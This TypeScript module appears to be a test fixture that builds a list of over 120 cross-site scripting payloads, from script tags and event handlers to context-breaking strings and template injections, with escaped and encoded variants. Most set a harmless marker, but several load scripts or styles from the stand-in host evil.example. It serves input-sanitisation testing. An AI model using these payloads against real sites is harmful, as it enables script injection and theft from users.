/** What each payload does when it runs: it is the page's own mark that a test looks for. */
const RUN = 'window.__ran=1';

const tags = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<form action="javascript:${RUN}"><input type=submit></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href=//evil.example/>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<div style="background:url(//evil.example/x)">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
];
const breaks = [
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus='`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `\\"-${RUN}//`,
  `';${RUN}//`,
  '`${window.__ran=1}`',
  '${window.__ran=1}',
  `{{constructor.constructor('${RUN}')()}}`,
  `{${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `[x](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
];
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '\u00ad<'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join(''),
  (text) => encodeURIComponent(text),
];

/** 120 and more texts that are code for somebody who does not take them as text. */
export const hostileTexts: readonly string[] = [
  ...tags,
  ...breaks,
  ...disguises.slice(1).flatMap((disguise) => [...tags.slice(0, 12), ...breaks.slice(0, 5)].map(disguise)),
];

/** As much of it as a field of that length takes, the whole ones only. */
export const hostileUpTo = (length: number): string[] => hostileTexts.filter((text) => text.length <= length);
